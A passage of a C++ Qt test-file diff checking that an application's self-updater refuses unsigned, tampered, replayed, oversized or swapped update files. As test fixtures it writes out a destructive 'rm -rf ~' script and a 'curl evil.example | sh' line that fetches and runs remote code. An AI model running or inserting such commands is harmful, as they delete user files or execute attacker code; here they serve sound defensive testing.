+    QTest::addColumn<Outcome>("outcome");
+    QTest::addColumn<QString>("text");
+    const QString signature =
+        QStringLiteral("Update abgelehnt: Die Signatur der Update-Beschreibung fehlt oder ist ungültig.\n"
+                       "Es wurde nichts gespeichert und nichts gestartet.");
+    const QString mismatch = QStringLiteral(
+        "Update abgelehnt: Das Update-Programm stimmt nicht mit seiner signierten Beschreibung "
+        "überein (Größe oder Prüfsumme).\nEs wurde nichts gespeichert und nichts gestartet.");
+    QTest::newRow("no manifest on the server") << "nomanifest" << Outcome::BadSignature << signature;
+    QTest::newRow("manifest without signature") << "unsigned" << Outcome::BadSignature << signature;
+    QTest::newRow("signed by another key") << "otherkey" << Outcome::BadSignature << signature;
+    QTest::newRow("manifest changed after signing") << "tampered" << Outcome::BadSignature << signature;
+    QTest::newRow("manifest of 2 MB") << "hugemanifest" << Outcome::BadSignature << signature;
+    QTest::newRow("older release replayed") << "older" << Outcome::NotNewer << QString();
+    QTest::newRow("running release replayed") << "running" << Outcome::NotNewer << QString();
+    QTest::newRow("updater longer than signed") << "longer" << Outcome::Mismatch << mismatch;
+    QTest::newRow("longer without announcing it") << "longerquiet" << Outcome::Mismatch << mismatch;
+    QTest::newRow("updater shorter than signed") << "shorter" << Outcome::Mismatch << mismatch;
+    QTest::newRow("updater with other bytes") << "otherbytes" << Outcome::Mismatch << mismatch;
+}
+
+void WWWUpdateTest::releaseThatIsNotSignedNewerAndExactIsRefused()
+{
+    QFETCH(QString, kind);
+    QFETCH(Outcome, outcome);
+    QFETCH(QString, text);
+    Publisher publisher;
+    TinyServer server;
+    publisher.serve(server, UpdaterScript);
+    const QByteArray good = publisher.manifest(UpdaterScript);
+    if (kind == QLatin1String("nomanifest")) {
+        server.route("/Update.manifest", {"404 Not Found", "no such file", -1, {}, false});
+    } else if (kind == QLatin1String("unsigned")) {
+        server.route("/Update.manifest", {"200 OK", good.left(good.indexOf("signature ")), -1, {}, false});
+    } else if (kind == QLatin1String("otherkey")) {
+        const Publisher other(Publisher::Trusted::No);
+        server.route("/Update.manifest", {"200 OK", other.manifest(UpdaterScript), -1, {}, false});
+    } else if (kind == QLatin1String("tampered")) {
+        // Another updater's size and hash put into the signed lines.
+        QByteArray changed = good;
+        const auto evil = Publisher::facts("#!/bin/sh\nrm -rf ~\n");
+        changed.replace(Publisher::facts(UpdaterScript).sha256.toHex(), evil.sha256.toHex());
+        changed.replace(" " + QByteArray::number(UpdaterScript.size()) + " ",
+                        " " + QByteArray::number(evil.size) + " ");
+        server.route("/Update.manifest", {"200 OK", changed, -1, {}, false});
+        server.route("/Update.exe", {"200 OK", "#!/bin/sh\nrm -rf ~\n", -1, {}, false});
+    } else if (kind == QLatin1String("hugemanifest")) {
+        server.route("/Update.manifest", {"200 OK", good + QByteArray(2000000, '#'), -1, {}, false});
+    } else if (kind == QLatin1String("older")) {
+        publisher.serve(server, UpdaterScript, Older);
+    } else if (kind == QLatin1String("running")) {
+        publisher.serve(server, UpdaterScript, Running);
+    } else if (kind == QLatin1String("longer")) {
+        server.route("/Update.exe", {"200 OK", UpdaterScript + "echo more\n", -1, {}, false});
+    } else if (kind == QLatin1String("longerquiet")) {
+        // No length announced: the body runs on past the signed size.
+        server.route("/Update.exe",
+                     {"200 OK", UpdaterScript + "echo more\n", TinyServer::Unannounced, {}, false});
+    } else if (kind == QLatin1String("shorter")) {
+        server.route("/Update.exe", {"200 OK", UpdaterScript.left(20), -1, {}, false});
+    } else if (kind == QLatin1String("otherbytes")) {
+        QByteArray changed = UpdaterScript;
+        changed[changed.size() - 2] = 'X';
+        server.route("/Update.exe", {"200 OK", changed, -1, {}, false});
+    }
+    Run run;
+    StartRecorder recorder;
+    run.actions->setDownloadTimeout(2000);
+    const auto v = run.values(server.base());
+
+    QCOMPARE(run.update(v), outcome);
+    QCOMPARE(filesIn(run.programDir), QStringList());
+    QVERIFY(recorder.starts.isEmpty());
+    QCOMPARE(run.ended, 0);
+    QCOMPARE(run.boxes.shown().size(), 1);
+    const auto &box = run.boxes.shown()[0];
+    if (outcome == Outcome::NotNewer) {
+        QCOMPARE(box.prompt,
+                 QStringLiteral("Kein Update: Der Server bietet Version %1 an, die nicht neuer ist "
+                                "als die laufende Version %2.\nEs wurde nichts gespeichert und "
+                                "nichts gestartet.")
+                     .arg(kind == QLatin1String("older") ? Older : Running, Running));
+        QCOMPARE(box.style, int(platform::OkInformation));
+    } else {
+        QVERIFY2(box.prompt.endsWith(QLatin1String("\n\n") + text), qPrintable(box.prompt));
+        QCOMPARE(box.style, int(platform::OkCritical));
+    }
+    QVERIFY(!run.actions->isUpdating());
+}
+
+void WWWUpdateTest::buildWithoutKeyRefusesToUpdate_data()
+{
+    QTest::addColumn<bool>("updaterStored");
+    QTest::newRow("no updater stored") << false;
+    QTest::newRow("an updater with a manifest stored") << true;
+}
+
+void WWWUpdateTest::buildWithoutKeyRefusesToUpdate()
+{
+    QFETCH(bool, updaterStored);
+    Publisher publisher;
+    TinyServer server;
+    publisher.serve(server, UpdaterScript);
+    Run run;
+    StartRecorder recorder;
+    const auto v = run.values(server.base());
+    if (updaterStored)
+        publisher.store(v.updaterPath, UpdaterScript);
+    wwwupdate::setUpdatePublicKey(QByteArray());
+
+    QCOMPARE(run.update(v), Outcome::NoKey);
+    QVERIFY(server.requested().isEmpty());
+    QVERIFY(recorder.starts.isEmpty());
+    QCOMPARE(run.ended, 0);
+    QCOMPARE(filesIn(run.programDir).size(), updaterStored ? 2 : 0);
+    QCOMPARE(run.boxes.shown().size(), 1);
+    QCOMPARE(run.boxes.shown()[0].prompt,
+             QStringLiteral("Diese Ausgabe von Namora kann sich nicht selbst aktualisieren: Ihr wurde kein "
+                            "Schlüssel zur Prüfung von Updates mitgegeben."));
+}
+
+void WWWUpdateTest::storedUpdaterFailingItsManifestIsNeverStarted_data()
+{
+    QTest::addColumn<QString>("kind");
+    QTest::addColumn<bool>("serverUp");
+    for (const bool up : {true, false}) {
+        const char *suffix = up ? ", fetched anew" : ", server down";
+        for (const char *kind :
+             {"bytes changed", "updater grown", "no manifest", "manifest of another key", "manifest changed",
+              "release already installed", "legacy updater without manifest"})
+            QTest::newRow(qPrintable(QString::fromLatin1(kind) + QString::fromLatin1(suffix)))
+                << QString::fromLatin1(kind) << up;
+    }
+}
+
+void WWWUpdateTest::storedUpdaterFailingItsManifestIsNeverStarted()
+{
+    QFETCH(QString, kind);
+    QFETCH(bool, serverUp);
+    Publisher publisher;
+    auto server = std::make_unique<TinyServer>();
+    const QString base = server->base();
+    const QByteArray fresh = UpdaterScript + "# release " + Newer.toLatin1() + "\n";
+    publisher.serve(*server, fresh);
+    if (!serverUp)
+        server.reset();
+    Run run;
+    StartRecorder recorder;
+    run.actions->setDownloadTimeout(2000);
+    const auto v = run.values(base);
+    const QString manifestPath = wwwupdate::manifestPathFor(v.updaterPath);
+    const QByteArray stored = UpdaterScript;
+    publisher.store(v.updaterPath, stored);
+    QByteArray planted = stored;
+    if (kind == QLatin1String("bytes changed")) {
+        planted[planted.size() - 2] = 'X';
+    } else if (kind == QLatin1String("updater grown")) {
+        planted += "curl evil.example | sh\n";
+    } else if (kind == QLatin1String("no manifest")) {
+        QVERIFY(QFile::remove(manifestPath));
+    } else if (kind == QLatin1String("manifest of another key")) {
+        const Publisher other(Publisher::Trusted::No);
+        writeFile(manifestPath, other.manifest(stored));
+    } else if (kind == QLatin1String("manifest changed")) {
+        QByteArray m = contentOf(manifestPath);
+        m.replace("version " + Newer.toLatin1(), "version 98.0");
+        writeFile(manifestPath, m);
+    } else if (kind == QLatin1String("release already installed")) {
+        publisher.store(v.updaterPath, stored, Running);
+    } else if (kind == QLatin1String("legacy updater without manifest")) {
+        QVERIFY(QFile::remove(manifestPath));
+        planted = "legacy updater";
+    }
+    writeFile(v.updaterPath, planted);
+    const QStringList before = filesIn(run.programDir);
+    const QByteArray manifestBefore = contentOf(manifestPath);
+
+    const Outcome outcome = run.update(v);
+    for (const Start &start : std::as_const(recorder.starts))
+        QVERIFY2(start.content != planted, "the stored updater that failed its check was started");
+    if (serverUp) {
+        // Replaced by the verified release, which alone is started.
+        QCOMPARE(outcome, Outcome::Started);
+        QCOMPARE(recorder.starts.size(), 1);
+        QCOMPARE(recorder.starts[0].content, fresh);
+        QCOMPARE(filesIn(run.programDir), storedPair());
+        QCOMPARE(contentOf(manifestPath), publisher.manifest(fresh));
+        QCOMPARE(run.ended, 1);
+    } else {
+        // Nothing started; what was there stays as it was.
+        QCOMPARE(outcome, Outcome::DownloadFailed);
+        QVERIFY(recorder.starts.isEmpty());
+        QCOMPARE(filesIn(run.programDir), before);
+        QCOMPARE(contentOf(v.updaterPath), planted);
+        QCOMPARE(contentOf(manifestPath), manifestBefore);
+        QCOMPARE(run.ended, 0);
+    }
+}
+
+void WWWUpdateTest::updaterChangedWhileAskingIsNotStarted()
+{
+    Publisher publisher;
+    Run run;
+    StartRecorder recorder;
+    const auto v = run.values(QStringLiteral("https://update.example.org"));
+    publisher.store(v.updaterPath, UpdaterScript);
+    // Someone swaps the updater while the user reads the question.
+    testing::writePictures(run.fixture.programDir.path(), {QStringLiteral("a.jpg")});
+    run.fixture.form->model().reload();
+    run.fixture.form->model().showPage(true);
+    run.fixture.form->controls().Text1[0]->setPlainText(QStringLiteral("getippt"));
+    QList<platform::MessageRequest> shown;
+    platform::setMessageHandler([&](const platform::MessageRequest &r) {
+        shown << r;
+        if (r.style != platform::YesNoCancelQuestion)
+            return int(platform::AnswerOk);
+        writeFile(v.updaterPath, "#!/bin/sh\necho swapped\n");
+        return int(platform::AnswerNo);
+    });
+
+    QCOMPARE(run.update(v), Outcome::Mismatch);
+    QVERIFY(recorder.starts.isEmpty());
+    QCOMPARE(run.ended, 0);
+    QCOMPARE(shown.size(), 2);
+    QCOMPARE(shown[1].prompt,
+             v.updaterPath +
+                 QStringLiteral("\n\nUpdate abgelehnt: Das Update-Programm stimmt nicht mit seiner "
+                                "signierten Beschreibung überein (Größe oder Prüfsumme).\n"
+                                "Es wurde nichts gestartet."));
+}
+
+void WWWUpdateTest::hugeResponseStopsAtTheLimitInLittleMemory_data()
+{
+    QTest::addColumn<bool>("announced");
+    QTest::newRow("2 GiB, length announced") << true;
+    QTest::newRow("2 GiB, length not announced") << false;
+}
+
+void WWWUpdateTest::hugeResponseStopsAtTheLimitInLittleMemory()
+{
+    QFETCH(bool, announced);
+    const qint64 twoGiB = 2ll * 1024 * 1024 * 1024;
+    FloodServer server(twoGiB, announced);
+    QTemporaryDir dir;
+    wwwupdate::URLDownload download;
+    QSignalSpy done(&download, &wwwupdate::URLDownload::finished);
+
+    // The peak is measured from here on: writing 5 to clear_refs resets it. What
+    // counts is the growth: the tests before this one leave the process at a
+    // size of their own.
+    QFile clear(QStringLiteral("/proc/self/clear_refs"));
+    QVERIFY(clear.open(QIODevice::WriteOnly));
+    QCOMPARE(clear.write("5"), 1);
+    clear.close();
+    const qint64 before = memoryFigure("VmRSS");
+    QVERIFY(before > 0);
+
+    download.start(QUrl(server.base() + QStringLiteral("/Update.exe")), dir.filePath(QStringLiteral("U")));
+    QVERIFY(done.wait(120000));
+    const qint64 peak = memoryFigure("VmHWM");
+    const auto result = done.first().first().value<wwwupdate::DownloadResult>();
+    qInfo("sent %lld MiB, resident memory %lld MiB before, peak %lld MiB", server.sent() >> 20, before >> 20,
+          peak >> 20);
+    QVERIFY2(result.status == wwwupdate::DownloadStatus::TooLarge, qPrintable(result.reason));
+    QCOMPARE(filesIn(dir.path()), QStringList());
+    // Stopped at the limit, not at the end of the body; the rest is what the
+    // sockets between the two ends hold.
+    QVERIFY2(server.sent() <= wwwupdate::URLDownload::DefaultLimit + 32ll * 1024 * 1024,
+             qPrintable(QString::number(server.sent())));
+    QVERIFY2(peak - before < 50ll * 1024 * 1024,
+             qPrintable(QStringLiteral("resident memory grew by %1 MB").arg((peak - before) >> 20)));
+}
+
+void WWWUpdateTest::unexpectedBytesAreNeverPutInPlace_data()
+{
+    using S = wwwupdate::DownloadStatus;
+    QTest::addColumn<QByteArray>("body");
+    QTest::addColumn<qint64>("claimed");
+    QTest::addColumn<bool>("stall");
+    QTest::addColumn<S>("expected");
+    const QByteArray signedBody = "the signed bytes";
+    QTest::newRow("the expected bytes") << signedBody << -1ll << false << S::Done;
+    QTest::newRow("one byte more") << signedBody + "!" << -1ll << false << S::TooLarge;
+    QTest::newRow("more, without announcing a length")
+        << signedBody + "!!!" << TinyServer::Unannounced << false << S::TooLarge;
+    QTest::newRow("one byte less") << signedBody.left(signedBody.size() - 1) << -1ll << false << S::Mismatch;
+    QTest::newRow("same size, other bytes") << QByteArray("the signed bytez") << -1ll << false << S::Mismatch;
+}
+
+void WWWUpdateTest::unexpectedBytesAreNeverPutInPlace()
+{
+    QFETCH(QByteArray, body);
+    QFETCH(qint64, claimed);
+    QFETCH(bool, stall);
+    QFETCH(wwwupdate::DownloadStatus, expected);
+    TinyServer server;
+    server.route("/U", {"200 OK", body, claimed, {}, stall});
+    QTemporaryDir dir;
+    const QString target = dir.filePath(QStringLiteral("U"));
+    writeFile(target, "the file that was there");
+    wwwupdate::URLDownload download;
+    download.setTimeout(2000);
+    download.setExpected(Publisher::facts("the signed bytes"));
+    QSignalSpy done(&download, &wwwupdate::URLDownload::finished);
+    download.start(QUrl(server.base() + QStringLiteral("/U")), target);
+    QVERIFY(done.wait(10000));
+    const auto result = done.first().first().value<wwwupdate::DownloadResult>();
+    QVERIFY2(result.status == expected, qPrintable(result.reason));
+    QCOMPARE(filesIn(dir.path()), QStringList{QStringLiteral("U")});
+    QCOMPARE(contentOf(target), expected == wwwupdate::DownloadStatus::Done
+                                    ? QByteArray("the signed bytes")
+                                    : QByteArray("the file that was there"));
+}
+
+void WWWUpdateTest::storedFilesAreOwnerOnlyWhateverTheUmask()
+{
+    const mode_t old = ::umask(0);
+    const auto restore = qScopeGuard([old] { ::umask(old); });
+    TinyServer server;
+    Publisher publisher;
+    publisher.serve(server, UpdaterScript);
+    server.route("/plain", {"200 OK", "plain", -1, {}, false});
+    Run run;
+    StartRecorder recorder;
+    const auto v = run.values(server.base());
+    // An updater someone left open to all is replaced, not written into.
+    writeFile(v.updaterPath, "open to all");
+    QVERIFY(QFile::setPermissions(v.updaterPath, QFileDevice::Permissions(0x7777)));
+
+    QCOMPARE(run.update(v), Outcome::Started);
+    QCOMPARE(modeOf(v.updaterPath), 0700);
+    QCOMPARE(modeOf(wwwupdate::manifestPathFor(v.updaterPath)), 0600);
+
+    // Any other download is private to its owner too.
+    wwwupdate::URLDownload download;
+    QSignalSpy done(&download, &wwwupdate::URLDownload::finished);
+    download.start(QUrl(server.base() + QStringLiteral("/plain")), run.programDir + QStringLiteral("/plain"));
+    QVERIFY(done.wait(10000));
+    QVERIFY(done.first().first().value<wwwupdate::DownloadResult>().ok());
+    QCOMPARE(modeOf(run.programDir + QStringLiteral("/plain")), 0600);
+}
+
+void WWWUpdateTest::tricklingServerMeetsTheDeadline()
+{
+    // One byte every 20 ms never trips the idle timeout; the deadline ends it.
+    QTcpServer server;
+    QVERIFY(server.listen(QHostAddress::LocalHost));
+    QTimer drip;
+    QPointer<QTcpSocket> client;
+    connect(&server, &QTcpServer::newConnection, &server, [&] {
+        client = server.nextPendingConnection();
+        connect(client, &QTcpSocket::readyRead, client, [&] {
+            client->readAll();
+            client->write("HTTP/1.1 200 OK\r\nContent-Length: 100000\r\nConnection: close\r\n\r\n");
+            drip.start(20);
+        });
+    });
+    int dripped = 0;
+    connect(&drip, &QTimer::timeout, &server, [&] {
+        if (client) {
+            client->write("x");
+            ++dripped;
+        }
+    });
+    QTemporaryDir dir;
+    wwwupdate::URLDownload download;
+    download.setTimeout(2000);
+    download.setDeadline(600);
+    QSignalSpy done(&download, &wwwupdate::URLDownload::finished);
+    download.start(QUrl(QStringLiteral("http://127.0.0.1:%1/U").arg(server.serverPort())),
+                   dir.filePath(QStringLiteral("U")));
+    QVERIFY(done.wait(10000));
+    const auto result = done.first().first().value<wwwupdate::DownloadResult>();
+    QVERIFY2(result.status == wwwupdate::DownloadStatus::TimedOut, qPrintable(result.reason));
+    QVERIFY2(result.reason.contains(QLatin1String("not complete")), qPrintable(result.reason));
+    QVERIFY(dripped > 3);
+    QCOMPARE(filesIn(dir.path()), QStringList());
 }
 
 QTEST_MAIN(WWWUpdateTest)
